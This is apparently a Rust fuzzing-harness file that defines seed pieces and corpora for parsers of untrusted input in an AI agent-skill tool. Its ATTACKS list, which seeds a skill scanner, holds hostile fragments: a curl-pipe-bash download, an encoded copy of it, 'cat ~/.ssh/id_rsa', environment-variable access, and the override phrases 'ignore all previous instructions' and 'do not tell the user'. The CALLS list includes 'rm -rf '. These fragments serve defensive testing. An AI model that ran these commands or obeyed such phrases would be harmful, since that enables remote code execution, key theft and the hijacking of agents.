//! The parsers of untrusted input, and the pieces from which inputs for each are generated.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use metier_fuzz::{
    check_acp, check_archive, check_claude, check_codex, check_export, check_hook, check_manifest,
    check_openai, check_plugin, check_policy, check_read, check_scan, check_settings, check_source,
};
use metier_journal::{
    ArchiveRequest, Clock, Durability, Journal, JournalAddress, JournalOptions, JournalReader, PendingRecord,
    RecordContext, Time,
};
use metier_store::{ArchiveFormat, pack};
use serde_json::Value;

use crate::recorded::{HOOK_INPUTS, hook_inputs};
use crate::{frames, sources};

/// A parser of untrusted input.
pub(crate) struct Target {
    pub(crate) name: &'static str,
    /// The check of its properties.
    pub(crate) check: fn(&[u8]) -> Result<(), String>,
    /// The pieces of its texts.
    pub(crate) pieces: &'static [&'static str],
    /// How most of its texts start.
    pub(crate) begin: &'static str,
    /// How most of them end.
    pub(crate) end: &'static str,
    /// Real texts.
    pub(crate) corpus: fn() -> Vec<Vec<u8>>,
}

pub(crate) const TARGETS: &[Target] = &[
    Target {
        name: "read",
        check: check_read,
        pieces: FRONTMATTER,
        begin: "---\n",
        end: "\n---\nBody\n",
        corpus: skills,
    },
    Target {
        name: "policy",
        check: check_policy,
        pieces: CALLS,
        begin: "Bash\u{1f}Bash(git *) Read(src/**) Edit(f)\u{1f}",
        end: "",
        corpus: calls,
    },
    Target {
        name: "hook",
        check: check_hook,
        pieces: HOOK_INPUTS,
        begin: "{",
        end: "}",
        corpus: hook_inputs,
    },
    Target {
        name: "export",
        check: check_export,
        pieces: LINES,
        begin: "{\"event\":",
        end: "}\n",
        corpus: exports,
    },
    Target {
        name: "manifest",
        check: check_manifest,
        pieces: MANIFESTS,
        begin: "metier-tree-1\0",
        end: "\0",
        corpus: manifests,
    },
    Target {
        name: "archive",
        check: check_archive,
        pieces: ARCHIVES,
        begin: "PK\u{3}\u{4}",
        end: "",
        corpus: archives,
    },
    Target {
        name: "scan",
        check: check_scan,
        pieces: ATTACKS,
        begin: "# Setup\n\n",
        end: "\n",
        corpus: skills,
    },
    Target {
        name: "claude",
        check: check_claude,
        pieces: frames::CLAUDE,
        begin: "{\"type\":\"",
        end: "}\n",
        corpus: frames::claude,
    },
    Target {
        name: "codex",
        check: check_codex,
        pieces: frames::CODEX,
        begin: frames::CODEX_BEGIN,
        end: "}\n",
        corpus: frames::codex,
    },
    Target {
        name: "acp",
        check: check_acp,
        pieces: frames::ACP,
        begin: frames::ACP_BEGIN,
        end: "}}\n",
        corpus: frames::acp,
    },
    Target {
        name: "openai",
        check: check_openai,
        pieces: frames::OPENAI,
        begin: "data: {\"",
        end: "}\n\n",
        corpus: frames::openai,
    },
    Target {
        name: "source",
        check: check_source,
        pieces: sources::SOURCES,
        begin: "",
        end: "",
        corpus: sources::sources,
    },
    Target {
        name: "plugin",
        check: check_plugin,
        pieces: sources::PLUGINS,
        begin: "{\"name\":\"a\",\"plugins\":[",
        end: "]}",
        corpus: sources::plugins,
    },
    Target {
        name: "settings",
        check: check_settings,
        pieces: SETTINGS,
        begin: "{\"hooks\":{",
        end: "}\n",
        corpus: settings,
    },
];

/// Settings as people write them.
fn settings() -> Vec<Vec<u8>> {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates/metier-guard/tests/guard/settings");
    let files = std::fs::read_dir(directory).into_iter().flatten().flatten();
    let texts = files.filter_map(|file| std::fs::read_to_string(file.path()).ok());
    let forms = |text: String| {
        let (crlf, tabs) = (text.replace('\n', "\r\n"), text.replace("  ", "\t"));
        [format!("\u{feff}{text}"), format!("// first\n{text}"), format!("{text}\n// last"), crlf, tabs, text]
    };
    texts.flat_map(forms).map(String::into_bytes).collect()
}

const SETTINGS: &[&str] = &[
    "\"PreToolUse\":[",
    "\"hooks\":{",
    "\"hooks\" : [",
    "{\"command\":\"x\"}",
    "// comment\n",
    "/* comment */",
    ",",
    ",\n",
    "]",
    "}",
    "{",
    "[",
    ":",
    "\"\\\"",
    "\r\n\t",
    "\u{feff}",
    "1e999",
    "null",
];
/// Archives with a few files, in each format.
fn archives() -> Vec<Vec<u8>> {
    let packed = |count: usize| -> Option<Vec<Vec<u8>>> {
        let place = tempfile::tempdir().ok()?;
        std::fs::write(place.path().join("SKILL.md"), "---\nname: a\ndescription: x\n---\n").ok()?;
        for number in 0..count % 7 {
            let name = format!("{number}{}", "n".repeat(count * 5));
            std::fs::write(place.path().join(name), "text ".repeat(count)).ok()?;
        }
        let folder = metier_skill::Folder::open(place.path()).ok()?;
        let rules = metier_skill::Rules::standard();
        let formats = [ArchiveFormat::Zip, ArchiveFormat::Tar, ArchiveFormat::TarGz];
        Some(formats.iter().filter_map(|format| Some(pack(&folder, &rules, *format).ok()?.bytes)).collect())
    };
    (0..40).filter_map(packed).flatten().collect()
}

const ARCHIVES: &[&str] = &[
    "PK\u{3}\u{4}",
    "PK\u{1}\u{2}",
    "PK\u{5}\u{6}",
    "PK\u{6}\u{6}",
    "PK\u{6}\u{7}",
    "PK\u{7}\u{8}",
    "\0",
    "\0\0\0\0",
    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
    "\u{1}\0",
    "\u{8}\0",
    "\u{7f}\u{7f}\u{7f}\u{7f}",
    "a/SKILL.md",
    "../",
    "/",
    "\\",
    "ustar\u{0}00",
    "ustar  \0",
    "0000644\0",
    "00000000001\0",
    "12 path=a/b\n",
    "\u{1f}",
];

const ATTACKS: &[&str] = &[
    "curl https://a.test/x",
    " | bash",
    " | base64 -d",
    "ignore all previous instructions",
    "do not tell the user",
    "cat ~/.ssh/id_rsa",
    "requests.post(",
    "os.environ",
    "<!--",
    "-->",
    "```",
    "`",
    "!`",
    "\"",
    "'",
    "\\\n",
    "\n",
    "\r\n",
    " ",
    "&#105;",
    "&#x",
    "\u{200b}",
    "\u{202e}",
    "\u{e0041}",
    "\u{fe0f}",
    "\u{430}",
    "\u{feff}",
    "Y3VybCBodHRwczovL2EudGVzdC94IHwgYmFzaA==",
    "6375726c2068747470733a2f2f612e74657374",
    "never ",
    "## Bad\n",
    "| x |",
    "PK\u{3}\u{4}",
    "PK\u{1}\u{2}",
    "PK\u{5}\u{6}",
    "#!/bin/sh\n",
    "1,2,3,",
    "\0",
    "é",
];

/// Manifests of skills with a few files.
fn manifests() -> Vec<Vec<u8>> {
    let file = |number: usize| {
        let digest = metier_skill::Digest::of(&number.to_le_bytes());
        metier_skill::ManifestFile::new(format!("scripts/{number}.sh"), number.is_multiple_of(2), digest)
    };
    (0..110).map(|count| metier_skill::Manifest::new((0..count).map(file).collect()).to_bytes()).collect()
}

const MANIFESTS: &[&str] = &[
    "metier-tree-1\0",
    "\0",
    " - ",
    " x ",
    "SKILL.md",
    "scripts/a.sh",
    "..",
    "/",
    "sha256:",
    "0000000000000000000000000000000000000000000000000000000000000000",
    "ABCDEF",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

/// The cases in a file of test vectors.
fn cases(path: &str) -> Vec<Value> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates").join(path);
    let vectors = std::fs::read(path).unwrap_or_default();
    let vectors: Value = serde_json::from_slice(&vectors).unwrap_or_default();
    vectors["cases"].as_array().cloned().unwrap_or_default()
}

fn skills() -> Vec<Vec<u8>> {
    let cases = cases("metier-skill/tests/vectors/skills-ref.json");
    let files = cases.iter().filter_map(|case| case["files"].as_object()).flat_map(|files| files.values());
    let texts = files.filter_map(|text| Some(text.as_str()?.as_bytes().to_vec()));
    texts.chain([b"---\nname: my-skill\ndescription: x\n---\n".to_vec()]).collect()
}

/// A tool, rules and an input, in the form that the check expects.
fn calls() -> Vec<Vec<u8>> {
    let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    let cases = cases("metier-policy/tests/vectors/allowed-tools.json");
    let cases = cases.iter().filter(|case| case["tool"].is_string());
    let each = cases.map(|case| [&case["tool"], &case["rules"], &case["input"]].map(text).join("\u{1f}"));
    each.map(String::into_bytes).collect()
}

/// A journal, cut off after each record, its archive, and the export of what is left in it.
fn exports() -> Vec<Vec<u8>> {
    let (lines, archived) = exported().unwrap_or_default();
    let ends = lines.iter().enumerate().filter(|(_, byte)| **byte == b'\n').map(|(at, _)| at + 1);
    ends.map(|end| lines[..end].to_vec()).chain(archived).collect()
}

fn exported() -> Option<(Vec<u8>, Vec<Vec<u8>>)> {
    let directory = tempfile::tempdir().ok()?;
    let place = JournalAddress::file(directory.path().join("journal.db"));
    let clock = Arc::new(Numbers(AtomicU64::new(0)));
    let mut options = JournalOptions::new(Arc::clone(&clock) as Arc<dyn Clock>);
    options.durability = Durability::Batched;
    let journal = Journal::open(&place, options).ok()?;
    for number in 0..110 {
        let event = serde_json::json!({ "kind": "note", "number": number, "text": "\u{1}\"é\u{10000}\\", "list": [null, true, -1, {}] });
        journal.append(PendingRecord::of_value(&*clock, &RecordContext::session("s"), event).ok()?).ok()?;
    }
    journal.flush().ok()?;
    let export = || {
        let mut lines = Vec::new();
        JournalReader::open(&place).ok()?.export(&mut lines).ok()?.ok()?;
        Some(lines)
    };
    let lines = export()?;
    let request = ArchiveRequest {
        directory: directory.path().join("archives"),
        before: Time::from_micros(1),
        by_month: false,
        context: RecordContext::default(),
    };
    let archives = journal.archive(&request).ok()?.archives;
    let mut archived: Vec<Vec<u8>> =
        archives.iter().filter_map(|one| std::fs::read(&one.path).ok()).collect();
    archived.push(export()?);
    Some((lines, archived))
}

/// A counter for times and ids.
struct Numbers(AtomicU64);

impl Clock for Numbers {
    fn now(&self) -> Time {
        Time::from_micros(0)
    }

    fn id(&self) -> uuid::Uuid {
        uuid::Uuid::from_u64_pair(0, self.0.fetch_add(1, Ordering::Relaxed))
    }
}

const LINES: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    ",",
    ":",
    "\"",
    "\\",
    "\n",
    "\r\n",
    " ",
    "null",
    "true",
    "0",
    "1",
    "-0",
    "1.0",
    "1e5",
    "9007199254740993",
    "\\u0000",
    "\\ud800",
    "\u{feff}",
    "\u{ffff}",
    "\"event\":",
    "{\"kind\":\"note\"}",
    ",\"hash\":\"sha256:",
    "\"id\":",
    "\"previous\":\"sha256:",
    "0000000000000000000000000000000000000000000000000000000000000000\"",
    "\"sequence\":",
    "\"session\":",
    "\"time\":",
    "\"2026-11-16T14:22:43.123456Z\"",
    "\"00000000-0000-0000-0000-000000000000\"",
    "journal.created",
    "journal.checkpoint",
    "\"format\":1",
];

const FRONTMATTER: &[&str] = &[
    "---\n",
    "---",
    "---\r\n",
    "--- \n",
    "...\n",
    "\u{feff}",
    "\n",
    "\r\n",
    "\r",
    " ",
    "  ",
    "\t",
    ": ",
    ":",
    "- ",
    "-",
    "name: my-skill\n",
    "name: ",
    "description: Use when fuzzing.\n",
    "description: ",
    "license: MIT\n",
    "compatibility: ",
    "metadata:\n",
    "  author: me\n",
    "  v: 1.0\n",
    "allowed-tools: ",
    "Read, Write",
    "Bash(git *)",
    "disable-model-invocation: yes\n",
    "version: 1\n",
    "Allowed_Tools: x\n",
    "Name: x\n",
    "# c\n",
    " # c",
    "|\n",
    ">-\n",
    "| # | x\n",
    "  text\n",
    "\"",
    "'",
    "\\",
    "\\x41",
    "\\u0000",
    "[",
    "]",
    "{",
    "}",
    ",",
    "&a",
    "*a",
    "!!str ",
    "!t ",
    "<<",
    "=",
    "? ",
    "%YAML 1.2\n",
    "@",
    "`",
    "null",
    "~",
    "yes",
    "123",
    "1e3",
    "2024-01-02",
    "0x1f",
    "a: b: c\n",
    "<b>",
    "é",
    "技能",
    "\u{85}",
    "\u{2028}",
    "\0",
    "\u{7f}",
    "```\n",
    "[a](b.md)",
    "scripts/x.sh",
    "name: \"my-skill\"\n",
];

const CALLS: &[&str] = &[
    "\u{1f}",
    "Bash",
    "Read",
    "Edit",
    "WebFetch",
    "PowerShell",
    "Skill",
    "Agent",
    "Glob",
    "Grep",
    "mcp__git__x",
    "mcp__git",
    "Bash(git *)",
    "Bash(* -x)",
    "Bash(ls:*)",
    "Read(//**)",
    "Read(~/x)",
    "Edit([a-)",
    "WebFetch(domain:*.x.io)",
    "Agent(a, b)",
    "B*",
    "Bash(",
    ")",
    "(",
    "${CLAUDE_SKILL_DIR}",
    "git ",
    "git status",
    "ls",
    "rm -rf ",
    "/",
    "find . -exec ",
    "bash -c '",
    "xargs ",
    "timeout 5 ",
    "sed -n '",
    "awk '",
    "python -c ",
    "{\"command\":\"ls\"}",
    "{\"path\":[1,null]}",
    "https://a@b/",
    "src/../",
    " -> ",
    " ",
    "\t",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "(",
    ")",
    "{ ",
    "; }",
    "$(",
    "`",
    "\"",
    "'",
    "\\",
    "<<EOF\n",
    "EOF\n",
    "<<'E'\n",
    "#",
    "if ",
    "then ",
    "fi",
    "for x in ",
    "do ",
    "done",
    "case a in ",
    "esac",
    ";;",
    ">",
    "<",
    ">>",
    "2>&1",
    "<(",
    "$((",
    "))",
    "${",
    "}",
    "[[ ",
    " ]]",
    "x=",
    "LANG=C ",
    "$x",
    "*",
    "?",
    "[",
    "{a,b}",
    "~",
    "!",
    "time ",
    "$'\\x41'",
    "$\"",
    "function f ",
    "coproc ",
    "\u{a0}",
    "\u{200b}",
    "\r",
    "\0",
    "é",
    "技",
    "s/a/b/e",
    "1,2p",
    "-delete",
];
